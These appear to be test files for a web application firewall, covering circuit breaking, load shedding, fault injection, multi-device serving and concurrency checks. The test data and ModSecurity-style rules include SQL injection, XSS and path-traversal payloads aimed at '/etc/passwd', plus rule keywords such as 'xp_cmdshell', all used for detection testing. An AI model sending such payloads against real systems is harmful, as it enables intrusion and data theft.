    assert brk.state == "open" and brk.trips == 1
    assert brk.route() == "fallback"        # cooldown not served
    time.sleep(0.2)
    assert brk.route() == "canary"          # half-open probe
    brk.record_failure()                    # canary failed: re-open
    assert brk.state == "open" and brk.trips == 2
    assert brk.route() == "fallback"
    time.sleep(0.2)
    assert brk.route() == "canary"
    brk.record_success()                    # canary ok: closed
    assert brk.state == "closed" and brk.closes == 1
    # a hang trips immediately, no threshold
    brk.trip("hang")
    assert brk.state == "open" and brk.last_trip_reason == "hang"
    snap = brk.snapshot()
    assert snap["trips"] == 3 and snap["state"] == "open"


# ------------------------------------------------- bounded admission

def test_bounded_admission_sheds_fail_open(cr):
    """Queue cap reached → requests shed fail-open AT enqueue, every
    future still resolves (never strands, never blocks)."""
    b = _mk_batcher(cr, queue_cap=8, hard_deadline_s=0.5)
    faults.install(FaultPlan.from_spec(
        "slow_confirm:times=50,delay_s=0.05"))
    try:
        futs = [b.submit(Request(uri="/x?i=%d" % i, request_id=str(i)))
                for i in range(200)]
        vs = [f.result(timeout=60) for f in futs]
        assert len(vs) == 200
        assert not any(v.blocked for v in vs)
        shed = dict(b.pipeline.stats.shed)
        assert shed.get("queue_full", 0) + shed.get("deadline", 0) > 0
        n_shed = sum(shed.values())
        assert sum(1 for v in vs if v.fail_open) >= n_shed
    finally:
        b.close()


def test_deadline_shed_by_queue_math(cr):
    """Queue math predicts a deadline miss → shed at enqueue without
    touching the queue (reason="deadline")."""
    b = _mk_batcher(cr, queue_cap=1024, hard_deadline_s=0.25)
    # freeze the dispatch thread out of the picture: queued work stays
    # queued, the estimator is set by hand
    b._stop.set()
    b._thread.join(timeout=5)
    b._batch_ewma.update(1.0)   # "one second per cycle" service rate
    b._batch_ewma_n = 8         # past the cold-estimator sample floor
    f1 = b.submit(Request(uri="/a", request_id="a"))   # depth 0: admitted
    f2 = b.submit(Request(uri="/b", request_id="b"))   # est 2s > 0.25: shed
    assert not f1.done()
    assert f2.done() and f2.result().fail_open
    assert b.pipeline.stats.shed.get("deadline") == 1
    b.close()
    # close() drained the admitted request fail-open (shutdown contract)
    assert f1.done() and f1.result().fail_open


def test_brownout_floor_sheds_at_admission(cr):
    b = _mk_batcher(cr)
    try:
        b.pipeline.load_controller.level = 2
        f = b.submit(Request(uri="/x", request_id="x"))
        v = f.result(timeout=5)
        assert v.fail_open and v.degraded and not v.blocked
        assert b.pipeline.stats.shed.get("brownout") == 1
        assert b.pipeline.stats.degraded == 1
    finally:
        b.pipeline.load_controller.level = 0
        b.close()


# ------------------------------------------------- degradation ladder

def test_brownout_prefilter_only_verdicts(cr):
    """Ladder rung 1: verdicts come from the sound prefilter alone —
    attacks still FLAG (candidates are a superset of confirmed hits)
    but never BLOCK, and carry degraded=True."""
    p = DetectionPipeline(cr, mode="block")
    atk = Request(uri=ATTACK_URI, request_id="a")
    ben = Request(uri="/benign?x=1", request_id="b")
    full = p.detect([atk, ben])
    assert full[0].attack and full[0].blocked and not full[0].degraded
    assert not full[1].attack

    p.load_controller.level = 1
    deg = p.detect([atk, ben])
    assert deg[0].degraded and deg[0].attack and not deg[0].blocked
    assert 942100 in deg[0].rule_ids and deg[0].score >= full[0].score
    assert deg[1].degraded and not deg[1].blocked
    assert p.stats.degraded == 2

    p.load_controller.level = 2
    fo = p.detect([atk])
    assert fo[0].fail_open and fo[0].degraded and not fo[0].attack


def test_cpu_fallback_verdict_parity(cr):
    """detect_cpu_only (breaker-open fallback) must agree with the full
    device path on every verdict field that matters."""
    p = DetectionPipeline(cr, mode="block")
    reqs = [Request(uri=ATTACK_URI, request_id="a"),
            Request(uri="/q?a=<script>alert(1)</script>", request_id="x"),
            Request(uri="/benign", request_id="b")]
    dev = p.detect(reqs)
    cand_before = int(p.rule_stats.candidates.sum())
    cpu = p.detect_cpu_only(reqs)
    for d, c in zip(dev, cpu):
        assert (d.attack, d.blocked, sorted(d.rule_ids), d.score) == \
            (c.attack, c.blocked, sorted(c.rule_ids), c.score), d.request_id
        assert not c.fail_open
    # the fallback's synthetic all-ones candidate matrix must NOT book
    # as per-rule prefilter statistics (/rules/health would be swamped)
    assert int(p.rule_stats.candidates.sum()) == cand_before


# --------------------------------------------------- fault matrix

@pytest.mark.parametrize("scenario", [
    "overload_burst", "dispatch_hang", "dispatch_raise",
    "recompile_storm", "swap_fail", "export_5xx", "slow_confirm",
    "rollout_promote_fail", "rollout_shadow_diverge", "lkg_corrupt",
    "lane_dispatch_hang", "lane_dispatch_raise", "confirm_worker_hang",
    "tenant_flood", "tenant_flood_during_canary"])
def test_fault_matrix_scenario(scenario):
    rep = run_fault_matrix(only=[scenario])
    res = rep["scenarios"][scenario]
    assert res["ok"], res["violations"]


def test_stream_cycle_hang_bounded_by_lane(cr):
    """A device wedge first hitting STREAM work is bounded by the same
    lane hang budget as batch dispatch (not the monitor's much larger
    grace): finishes resolve fail-open and the breaker trips."""
    b = _mk_batcher(cr, hang_budget_s=0.2, breaker_cooldown_s=0.3)
    faults.install(FaultPlan.from_spec("dispatch_hang:times=1,delay_s=1.0"))
    try:
        h = b.begin_stream(Request(uri="/s", request_id="s1"))
        b.feed_chunk(h, b"hello stream")
        f = b.finish_stream(h)
        v = f.result(timeout=3.0)
        assert v.fail_open and not v.blocked
        assert b.stats.hangs >= 1
        assert b.breaker.trips >= 1
    finally:
        b.close()


# --------------------------------------------------- watchdog monitor

def test_watchdog_releases_wedged_dispatch_thread(cr):
    """Last-resort backstop: the dispatch thread itself wedges (not the
    device lane) — the monitor releases the cycle's futures fail-open
    and drains newly queued work until the dispatcher moves again."""
    b = _mk_batcher(cr, hang_budget_s=0.1, hard_deadline_s=0.1)
    assert b._watch_grace < 1.5
    orig = b._stream_step_guarded
    release = threading.Event()

    def wedged(begins, chunks, finishes, route):
        # runs ON the dispatch thread (unlike _stream_step, which now
        # rides the watchdogged lane) — this wedges the dispatcher
        release.wait(timeout=4.0)
        return orig(begins, chunks, finishes, route)

    b._stream_step_guarded = wedged
    try:
        f1 = b.submit(Request(uri="/x", request_id="x"))
        v1 = f1.result(timeout=3.0)   # released by the monitor, not dispatch
        assert v1.fail_open
        assert b.stats.watchdog_released >= 1
        assert b.breaker.state == "open"
        # work queued while the dispatcher is still stuck drains too
        f2 = b.submit(Request(uri="/y", request_id="y"))
        assert f2.result(timeout=3.0).fail_open
    finally:
        release.set()
        b._stream_step_guarded = orig
        b.close()


# ---------------------------------------------- close() queue drain

def test_close_drains_main_queue_fail_open(cr):
    """Satellite: a request queued at shutdown must not strand its
    connection handler — close() resolves it fail-open the way the
    oversized side lane always did."""
    b = _mk_batcher(cr)
    b._stop.set()
    b._thread.join(timeout=5)
    futs = [b.submit(Request(uri="/q%d" % i, request_id=str(i)))
            for i in range(5)]
    assert not any(f.done() for f in futs)
    b.close()
    for f in futs:
        v = f.result(timeout=1)
        assert v.fail_open and not v.blocked
    assert b.pipeline.stats.shed.get("shutdown") == 5


# ------------------------------------------------- exporter backoff

def test_exporter_backoff_and_spool_bound(tmp_path):
    from ingress_plus_tpu.post.export import Exporter
    from ingress_plus_tpu.post.queue import HitQueue

    exp = Exporter(HitQueue(), spool_dir=str(tmp_path / "spool"),
                   interval_s=1.0, backoff_max_s=8.0, jitter_seed=1,
                   max_spool_bytes=400)
    # healthy: base interval
    assert exp.next_wait_s() == 1.0
    # failures: exponential growth with jitter, hard ceiling
    prev = 1.0
    for n in (1, 2, 3, 10):
        exp.consecutive_failures = n
        w = exp.next_wait_s()
        assert w <= 8.0
        base = min(1.0 * 2 ** (n - 1), 8.0)
        assert w >= min(base, 8.0) - 1e-9
        if base < 8.0:
            assert w > prev
        prev = w
    exp.consecutive_failures = 0
    assert exp.next_wait_s() == 1.0

    # spool bound: oldest files drop to fit the cap, counted
    spool = tmp_path / "spool"
    old = spool / "attacks.111.jsonl"
    old.write_text("x" * 300)
    t = time.time()
    import os
    os.utime(old, (t - 100, t - 100))
    newer = spool / "attacks.222.jsonl"
    newer.write_text("y" * 300)
    rec = {"class": "sqli", "count": 1}
    assert exp._enforce_spool_bound(len(json.dumps(rec)) + 1,
                                    spool / "attacks.333.jsonl")
    assert not old.exists()          # oldest dropped first
    assert newer.exists()
    assert exp.spool_dropped_files == 1
    assert exp.spool_dropped_bytes == 300
    # a batch that can never fit is skipped and counted, never written
    ok = exp._enforce_spool_bound(10_000, spool / "attacks.333.jsonl")
    assert not ok
    exp.close()


# -------------------------------------- serve plane HTTP endpoints

def _free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


@pytest.fixture()
def serve_loop(cr, tmp_path):
    from ingress_plus_tpu.serve.server import ServeLoop

    b = _mk_batcher(cr)
    port = _free_port()
    sock = str(tmp_path / "ipt.sock")
    loop = asyncio.new_event_loop()
    serve = ServeLoop(b, sock, http_port=port)

    def runner():
        asyncio.set_event_loop(loop)
        loop.run_until_complete(serve.start())
        loop.run_forever()

    t = threading.Thread(target=runner, daemon=True)
    t.start()
    deadline = time.time() + 30
    while time.time() < deadline:
        try:
            urllib.request.urlopen(
                "http://127.0.0.1:%d/healthz" % port, timeout=2)
            break
        except OSError:
            time.sleep(0.05)
    yield serve, b, port, sock
    for s in serve._servers:
        loop.call_soon_threadsafe(s.close)
    loop.call_soon_threadsafe(loop.stop)
    t.join(timeout=5)
    b.close()


def _get(port, path):
    r = urllib.request.urlopen("http://127.0.0.1:%d%s" % (port, path),
                               timeout=10)
    return r.status, r.read().decode()


def test_readyz_faults_and_metrics_endpoints(serve_loop):
    serve, b, port, _sock = serve_loop
    # liveness carries the robustness block and stays 200
    code, body = _get(port, "/healthz")
    health = json.loads(body)
    assert code == 200
    rb = health["robustness"]
    assert rb["breaker"]["state"] == "closed"
    assert rb["ladder"]["mode"] == "full"
    # silent-thread-death repair (ISSUE 11): the uncaught-exception
    # counter block is always present (a dict, usually empty)
    assert isinstance(rb["thread_uncaught"], dict)
    # ready while healthy
    code, body = _get(port, "/readyz")
    assert code == 200 and json.loads(body)["ready"]

    # breaker open → unready (503) while /healthz stays 200
    b.breaker.trip("test")
    with pytest.raises(urllib.error.HTTPError) as ei:
        _get(port, "/readyz")
    assert ei.value.code == 503
    payload = json.loads(ei.value.read())
    assert "breaker_open" in payload["reasons"]
    assert _get(port, "/healthz")[0] == 200
    # cooldown elapsed (probe_due): readiness returns even with NO
    # traffic — the canary that closes the breaker needs the pod back
    # in rotation (an unready breaker would deadlock forever)
    b.breaker._opened_at -= b.breaker.cooldown_s + 1
    assert b.breaker.snapshot()["probe_due"]
    assert _get(port, "/readyz")[0] == 200
    b.breaker.record_success()
    b.breaker.state = "closed"

    # ladder above full → unready
    b.pipeline.load_controller.level = 1
    with pytest.raises(urllib.error.HTTPError) as ei:
        _get(port, "/readyz")
    assert ei.value.code == 503
    assert "degraded_prefilter_only" in json.loads(ei.value.read())["reasons"]
    b.pipeline.load_controller.level = 0

    # /faults: install over HTTP, observe counters, clear
    req = urllib.request.Request(
        "http://127.0.0.1:%d/faults" % port,
        data=json.dumps({"spec": "slow_confirm:times=1,delay_s=0.01",
                         "seed": 5}).encode(),
        method="POST", headers={"Content-Type": "application/json"})
    out = json.loads(urllib.request.urlopen(req, timeout=10).read())
    assert out["active"] and out["plan"]["seed"] == 5
    assert faults.active() is not None
    code, body = _get(port, "/faults")
    assert json.loads(body)["active"]
    req = urllib.request.Request(
        "http://127.0.0.1:%d/faults" % port, data=b"{}",
        method="POST", headers={"Content-Type": "application/json"})
    assert not json.loads(
        urllib.request.urlopen(req, timeout=10).read())["active"]
    assert faults.active() is None

    # bad spec → 400, plan untouched
    req = urllib.request.Request(
        "http://127.0.0.1:%d/faults" % port,
        data=json.dumps({"spec": "nope:times=1"}).encode(),
        method="POST", headers={"Content-Type": "application/json"})
    with pytest.raises(urllib.error.HTTPError) as ei:
        urllib.request.urlopen(req, timeout=10)
    assert ei.value.code == 400

    # the fail-safe metrics are scrapeable
    _code, metrics = _get(port, "/metrics")
    for name in ("ipt_queue_depth", "ipt_degraded_mode",
                 "ipt_breaker_state", "ipt_breaker_trips_total",
                 "ipt_watchdog_hangs_total",
                 "ipt_cpu_fallback_batches_total",
                 "ipt_degraded_verdicts_total",
                 "ipt_thread_uncaught_total"):
        assert name in metrics, name
    # shed series appears once something was shed
    b.pipeline.stats.count_shed("queue_full")
    _code, metrics = _get(port, "/metrics")
    assert 'ipt_shed_total{reason="queue_full"}' in metrics


def test_ws_sticky_fail_open_server_path(serve_loop):
    """Satellite: serve/server.py's websocket reply path sets
    ``sticky_fail_open`` when a message's verdict future raises — every
    later frame of that stream must answer fail-open on the wire."""
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_ws)
    from tests.test_websocket import ws_frame

    serve, b, _port, sock = serve_loop
    orig_finish = b.finish_stream
    injected = []

    def failing_finish(handle):
        # first message: its verdict future raises (the client-vanished
        # /cancelled-future shape) — afterwards restore the real path
        b.finish_stream = orig_finish
        b.abort_stream(handle)
        fut = Future()
        fut.set_exception(RuntimeError("injected verdict failure"))
        injected.append(handle)
        return fut

    b.finish_stream = failing_finish
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(30)
        s.connect(sock)
        frames = [
            encode_ws(1, 900, ws_frame(b"hello message one")),
            encode_ws(2, 900, ws_frame(b"hello message two")),
        ]
        for f in frames:
            s.sendall(f)
        reader, got = FrameReader(RESP_MAGIC), {}
        while set(got) != {1, 2}:
            for payload in reader.feed(s.recv(1 << 16)):
                r = decode_response(payload)
                got[r["req_id"]] = r
        s.close()
        assert injected, "failing finish_stream was never exercised"
        # the frame whose message future raised answers fail-open...
        assert got[1]["fail_open"] and not got[1]["blocked"]
        # ...and the STICKY flag survives onto later, healthy frames
        assert got[2]["fail_open"] and not got[2]["blocked"]
    finally:
        b.finish_stream = orig_finish


# --------------------------------------------------------- dbg views

def test_dbg_breaker_and_faults_renderers():
    from ingress_plus_tpu.control.dbg import render_breaker, render_faults

    health = {"robustness": {
        "breaker": {"state": "open", "trips": 2, "closes": 1, "probes": 3,
                    "last_trip_reason": "hang", "consecutive_failures": 0,
                    "failure_threshold": 3, "cooldown_s": 5.0},
        "ladder": {"level": 1, "mode": "prefilter_only",
                   "queue_delay_ewma_us": 81000.0, "steps_up": 1,
                   "steps_down": 0},
        "queue_depth": 12, "queue_cap": 8192,
        "shed": {"deadline": 4, "queue_full": 9},
        "degraded_verdicts": 33, "hangs": 1,
        "cpu_fallback_batches": 7, "watchdog_released": 0,
    }}
    out = render_breaker(health)
    assert "breaker: open" in out and "trips=2" in out
    assert "prefilter_only" in out
    assert "deadline=4" in out and "queue_full=9" in out
    assert "no robustness block" in render_breaker({})

    plan = FaultPlan.from_spec("dispatch_hang:times=1,delay_s=2")
    plan.fire("dispatch_hang")
    out = render_faults({"active": True, "plan": plan.snapshot()})
    assert "dispatch_hang" in out and "seed=0" in out
    assert render_faults({"active": False}) == "no fault plan active"


def test_verdict_degraded_flag_survives_postanalytics(cr):
    """Degraded verdicts flow into the post channel without blowing up
    (duck-typed Hit path) and are visible as attack flags, not blocks."""
    from ingress_plus_tpu.post.channel import PostChannel

    p = DetectionPipeline(cr, mode="block")
    p.load_controller.level = 1
    ch = PostChannel(brute=False)
    v = p.detect([Request(uri=ATTACK_URI, request_id="d1")])[0]
    ch.record(Request(uri=ATTACK_URI, request_id="d1"), v)
    st = ch.status()
    assert st["requests"] == 1 and st["attacks"] == 1
    assert st["blocked"] == 0
