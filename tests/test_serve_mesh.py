"""Mesh-backed serving (parallel/serve_mesh.MeshEngine): the DP x TP
sharded step behind the single-chip engine API, so the SAME pipeline /
batcher / confirm chain serves multi-chip.  Runs on the virtual 8-device
CPU mesh (conftest), the kind-cluster analog from SURVEY.md §4."""

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.parallel.serve_mesh import MeshEngine, parse_mesh_spec
from ingress_plus_tpu.serve.normalize import Request

RULES = """
SecRule ARGS|REQUEST_BODY "@rx (?i)union\\s+select" "id:942100,phase:2,block,t:urlDecodeUni,t:lowercase,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS|REQUEST_BODY "@rx (?i)<script[^>]*>" "id:941100,phase:2,block,t:urlDecodeUni,t:htmlEntityDecode,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS "@rx /etc/(?:passwd|shadow)" "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
SecRule ARGS "@pm sleep( benchmark( xp_cmdshell" "id:942150,phase:2,block,severity:ERROR,tag:'attack-sqli'"
"""


@pytest.fixture(scope="module")
def ruleset():
    return compile_ruleset(parse_seclang(RULES))


def _requests():
    return [
        Request(method="GET",
                uri="/p?q=1%27%20UNION%20SELECT%20password%20FROM%20users",
                headers={}, body=b""),
        Request(method="GET", uri="/index.html?page=3", headers={},
                body=b""),
        Request(method="GET",
                uri="/p?q=%3Cscript%3Ealert(1)%3C/script%3E",
                headers={}, body=b""),
        Request(method="GET", uri="/p?f=../../etc/passwd", headers={},
                body=b""),
        Request(method="POST", uri="/login", headers={},
                body=b"user=jo&pass=hunter2"),
    ]


def _vt(v):
    return (v.attack, v.blocked, tuple(sorted(v.rule_ids)))


def test_parse_mesh_spec():
    m = parse_mesh_spec("data=2,model=4")
    assert m.shape["data"] == 2 and m.shape["model"] == 4
    m = parse_mesh_spec("2x4")
    assert m.shape["data"] == 2 and m.shape["model"] == 4
    with pytest.raises(ValueError):
        parse_mesh_spec("data=0,model=4")
    with pytest.raises(ValueError):
        parse_mesh_spec("16x16")


def test_mesh_pipeline_verdict_parity(ruleset):
    reqs = _requests()
    ref = DetectionPipeline(ruleset, mode="block")
    want = [_vt(v) for v in ref.detect(reqs)]
    assert any(w[0] for w in want) and not all(w[0] for w in want)

    mp = DetectionPipeline(ruleset, mode="block", fail_open=False)
    mp.engine = MeshEngine(ruleset, parse_mesh_spec("2x4"))
    got = [_vt(v) for v in mp.detect(reqs)]
    assert got == want

    # and again with the sharded pair impl
    mp.engine.scan_impl = "pair"
    got = [_vt(v) for v in mp.detect(reqs)]
    assert got == want


def test_mesh_engine_survives_hot_swap(ruleset):
    from ingress_plus_tpu.serve.batcher import Batcher

    p = DetectionPipeline(ruleset, mode="block", fail_open=False)
    p.engine = MeshEngine(ruleset, parse_mesh_spec("2x4"))
    b = Batcher(p, max_batch=8, max_delay_s=0.0001)
    cr2 = compile_ruleset(parse_seclang(RULES))
    b.swap_ruleset(cr2)
    assert isinstance(b.pipeline.engine, MeshEngine)
    got = [_vt(v) for v in b.pipeline.detect(_requests())]
    ref = DetectionPipeline(ruleset, mode="block")
    want = [_vt(v) for v in ref.detect(_requests())]
    assert got == want


def test_mesh_autoselect_returns_timings(ruleset):
    mp = DetectionPipeline(ruleset, mode="block", fail_open=False)
    mp.engine = MeshEngine(ruleset, parse_mesh_spec("2x4"))
    timings = mp.engine.autoselect_scan_impl(B=16, L=128, iters=2)
    assert set(timings) >= {"take", "pair"}
    assert mp.engine.scan_impl in timings


def test_mesh_serving_over_wire(tmp_path):
    """Full wire e2e: serve subprocess with --mesh 2x4 (8 virtual CPU
    devices), UDS protocol roundtrip, verdicts from the sharded step."""
    import os
    import socket
    import subprocess
    import sys
    import time
    from pathlib import Path

    repo = Path(__file__).resolve().parent.parent
    rules_dir = tmp_path / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(RULES)
    sock_path = str(tmp_path / "mesh.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=8"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock_path, "--http-port", "0",
         "--rules-dir", str(rules_dir), "--platform", "cpu",
         "--mesh", "2x4", "--scan-impl", "pair",
         "--max-delay-us", "1000", "--no-warmup"],
        cwd=str(repo), env=env, stderr=subprocess.PIPE, text=True)
    try:
        for _ in range(600):
            if Path(sock_path).exists():
                try:
                    s = socket.socket(socket.AF_UNIX)
                    s.connect(sock_path)
                    s.close()
                    break
                except OSError:
                    pass
            if proc.poll() is not None:
                raise RuntimeError("server died: %s" % proc.stderr.read())
            time.sleep(0.1)
        else:
            raise RuntimeError("server socket never appeared")

        from ingress_plus_tpu.serve.protocol import (
            RESP_MAGIC, FrameReader, decode_response, encode_request)

        s = socket.socket(socket.AF_UNIX)
        s.connect(sock_path)
        s.sendall(encode_request(
            Request(uri="/q?a=1+union+select+2"), req_id=9001))
        s.sendall(encode_request(Request(uri="/benign"), req_id=9002))
        reader = FrameReader(RESP_MAGIC)
        got = {}
        s.settimeout(120)
        while len(got) < 2:
            frames = reader.feed(s.recv(65536))
            for f in frames:
                r = decode_response(f)
                got[r["req_id"]] = r
        s.close()
        assert got[9001]["attack"] and got[9001]["blocked"]
        assert 942100 in got[9001]["rule_ids"]
        assert not got[9002]["attack"]
    finally:
        proc.terminate()
        proc.wait(timeout=10)
