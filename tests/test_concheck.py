"""concheck — concurrency static analysis + the instrumented-lock
runtime twin (ISSUE 11, docs/ANALYSIS.md "Concurrency analysis").

Covers, per check class, a FAILING and a CLEAN fixture (synthetic
source trees analyzed through the same machinery as the real one), the
whole-tree-clean regression, the inline-annotation and baseline
suppression round-trips, the CLI/SARIF surfaces, the InstrumentedLock
order-assert/contention units, and the pinned fixes for the true
positives the analyzer found on the live tree (Ewma RMW, the
admission-counter lost updates)."""

from __future__ import annotations

import json
import threading
import time

import pytest

from ingress_plus_tpu.analysis.concheck import (
    check_concurrency,
    run_concheck,
    scan_concurrency,
)
from ingress_plus_tpu.analysis.findings import Baseline
from ingress_plus_tpu.analysis.threadmap import (
    THREAD_ROOTS,
    ThreadRoot,
    build_thread_map,
    parse_tree,
)
from ingress_plus_tpu.utils.trace import (
    Ewma,
    InstrumentedLock,
    enable_debug_locks,
    install_thread_excepthook,
    lock_registry,
    named_lock,
    thread_uncaught_counts,
)


def _scan_fixture(tmp_path, source: str, roots):
    """Analyze one synthetic module with a custom thread-root registry."""
    (tmp_path / "mod.py").write_text(source)
    mm = parse_tree(tmp_path, files=("mod.py",))
    tmap = build_thread_map(tmp_path, roots=tuple(roots), mm=mm)
    cs = scan_concurrency(tmap=tmap)
    return cs, check_concurrency(cs)


def _checks(findings):
    return {(f.check, f.subject) for f in findings if not f.suppressed}


WORKER = ThreadRoot(name="worker", entries=("mod.py::Shared.worker",),
                    concurrent=True, description="t")
READER = ThreadRoot(name="reader", entries=("mod.py::Shared.reader",),
                    concurrent=False, description="t")


# ------------------------------------------------- unguarded mutation


def test_unguarded_mutation_fixture_flags(tmp_path):
    src = '''
import threading

class Shared:
    def __init__(self):
        self._lock = threading.Lock()
        self.counts = {}
        self.total = 0

    def worker(self, key):
        self.counts[key] = self.counts.get(key, 0) + 1
        self.total += 1

    def reader(self):
        with self._lock:
            self.counts.clear()
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    got = _checks(findings)
    assert ("conc.unguarded-mutation", "Shared.counts") in got
    assert ("conc.unguarded-mutation", "Shared.total") in got
    # mixed discipline (locked clear vs bare setitem) is error severity
    sev = {f.subject: f.severity for f in findings
           if f.check == "conc.unguarded-mutation"}
    assert sev["Shared.counts"] == "error"


def test_unguarded_mutation_clean_fixture(tmp_path):
    src = '''
import threading

class Shared:
    def __init__(self):
        self._lock = threading.Lock()
        self.counts = {}
        self.total = 0

    def worker(self, key):
        with self._lock:
            self.counts[key] = self.counts.get(key, 0) + 1
            self.total += 1

    def reader(self):
        with self._lock:
            return dict(self.counts)
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert not [f for f in findings
                if f.check == "conc.unguarded-mutation"]


def test_single_root_nonconcurrent_not_flagged(tmp_path):
    """A single non-concurrent thread mutating bare state is fine —
    the torn-free single-writer pattern the serve plane documents."""
    src = '''
class Shared:
    def __init__(self):
        self.total = 0

    def reader(self):
        self.total += 1
'''
    _cs, findings = _scan_fixture(tmp_path, src, [READER])
    assert not [f for f in findings
                if f.check == "conc.unguarded-mutation"]


def test_guard_inference_through_callees(tmp_path):
    """A helper only ever called under the lock inherits the guard —
    the _TenantFairQueue._pop_locked / TenantGuard._fold shape."""
    src = '''
import threading

class Shared:
    def __init__(self):
        self._lock = threading.Lock()
        self.counts = {}

    def _fold(self, key):
        self.counts[key] = 1

    def worker(self, key):
        with self._lock:
            self._fold(key)

    def reader(self, key):
        with self._lock:
            self._fold(key)
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert not [f for f in findings
                if f.check == "conc.unguarded-mutation"]


# --------------------------------------------------- live-view escape


def test_live_view_escape_flags(tmp_path):
    src = '''
import threading

class Shared:
    def __init__(self):
        self._lock = threading.Lock()
        self.counts = {}

    def worker(self, key):
        with self._lock:
            self.counts[key] = 1

    def reader(self):
        return self.counts
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert ("conc.live-view-escape", "Shared.counts") in _checks(findings)


def test_live_view_snapshot_clean(tmp_path):
    """dict(live) under the lock — the documented safe idiom."""
    src = '''
import threading

class Shared:
    def __init__(self):
        self._lock = threading.Lock()
        self.counts = {}

    def worker(self, key):
        with self._lock:
            self.counts[key] = 1

    def reader(self):
        with self._lock:
            return dict(self.counts)
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert not [f for f in findings
                if f.check == "conc.live-view-escape"]


# ----------------------------------------------------- lock order


def test_lock_order_cycle_flags(tmp_path):
    src = '''
import threading

class Shared:
    def __init__(self):
        self.l1 = threading.Lock()
        self.l2 = threading.Lock()

    def worker(self):
        with self.l1:
            with self.l2:
                pass

    def reader(self):
        with self.l2:
            with self.l1:
                pass
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert any(f.check == "conc.lock-order-cycle" for f in findings)


def test_lock_order_consistent_clean(tmp_path):
    src = '''
import threading

class Shared:
    def __init__(self):
        self.l1 = threading.Lock()
        self.l2 = threading.Lock()

    def worker(self):
        with self.l1:
            with self.l2:
                pass

    def reader(self):
        with self.l1:
            with self.l2:
                pass
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert not [f for f in findings if f.check == "conc.lock-order-cycle"]


# ------------------------------------------------------- lifecycle


def test_lifecycle_lints_flag(tmp_path):
    src = '''
import queue
import threading

class Shared:
    def __init__(self):
        self._q = queue.Queue()
        self._t = threading.Thread(target=self.worker)

    def worker(self):
        while True:
            item = self._q.get()
            try:
                item()
            except Exception:
                pass

    def reader(self):
        self._t.join()
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    checks = {f.check for f in findings}
    assert "conc.thread-no-daemon" in checks
    assert "conc.join-no-timeout" in checks
    assert "conc.silent-worker-death" in checks
    assert "conc.no-abandon-sentinel" in checks


def test_lifecycle_clean_fixture(tmp_path):
    """The LaneWorker discipline: daemon worker, None sentinel,
    bounded join, Empty-poll handler exempt."""
    src = '''
import queue
import threading

class Shared:
    def __init__(self):
        self._q = queue.Queue()
        self._t = threading.Thread(target=self.worker, daemon=True)

    def worker(self):
        while True:
            try:
                item = self._q.get(timeout=0.1)
            except queue.Empty:
                continue
            if item is None:
                return
            item()

    def reader(self):
        self._t.join(timeout=2.0)
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    assert not [f for f in findings if f.check.startswith("conc.thread")
                or f.check in ("conc.join-no-timeout",
                               "conc.silent-worker-death",
                               "conc.no-abandon-sentinel")]


def test_unregistered_thread_flags(tmp_path):
    src = '''
import threading

class Shared:
    def __init__(self):
        pass

    def reader(self):
        self._t = threading.Thread(target=self.rogue, daemon=True)
        self._t.start()

    def rogue(self):
        pass
'''
    _cs, findings = _scan_fixture(tmp_path, src, [READER])
    assert any(f.check == "conc.unregistered-thread" for f in findings)


# ------------------------------------------- suppression round-trips


def test_inline_annotation_suppresses(tmp_path):
    src = '''
class Shared:
    def __init__(self):
        self.total = 0

    def worker(self):
        self.total += 1  # concheck: ok telemetry-grade counter race

    def reader(self):
        return self.total
'''
    (tmp_path / "mod.py").write_text(src)
    mm = parse_tree(tmp_path, files=("mod.py",))
    tmap = build_thread_map(tmp_path, roots=(WORKER, READER), mm=mm)
    cs = scan_concurrency(tmap=tmap)
    findings = check_concurrency(cs)
    from ingress_plus_tpu.analysis.concheck import (
        _annotations,
        apply_annotations,
    )
    apply_annotations(findings, _annotations(mm), cs)
    tot = [f for f in findings if f.subject == "Shared.total"]
    assert tot and all(f.suppressed for f in tot)
    assert "telemetry-grade" in tot[0].suppress_reason


def test_baseline_class_entry_suppresses(tmp_path):
    src = '''
class Shared:
    def __init__(self):
        self.total = 0

    def worker(self):
        self.total += 1

    def reader(self):
        return self.total
'''
    _cs, findings = _scan_fixture(tmp_path, src, [WORKER, READER])
    bl_path = tmp_path / "baseline.json"
    bl_path.write_text(json.dumps({"suppressions": [
        {"check": "conc.unguarded-mutation", "class": "Shared",
         "reason": "test handoff class"}]}))
    bl = Baseline.load(bl_path)
    bl.apply(findings)
    tot = [f for f in findings if f.subject == "Shared.total"]
    assert tot and all(f.suppressed for f in tot)


# --------------------------------------------- whole-tree regression


def test_serve_plane_clean_under_baseline():
    """THE gate: the real tree has zero unsuppressed findings at error
    severity (true positives fixed in ISSUE 11, intentional lock-free
    paths annotated/baselined with reasons)."""
    report = run_concheck()
    gating = report.gating("error")
    assert gating == [], "\n".join(
        "%s %s %s" % (f.severity, f.check, f.message) for f in gating)


def test_thread_registry_covers_known_threads():
    """The declared registry names every thread family the serve plane
    actually starts — and the analyzer finds no unregistered ones."""
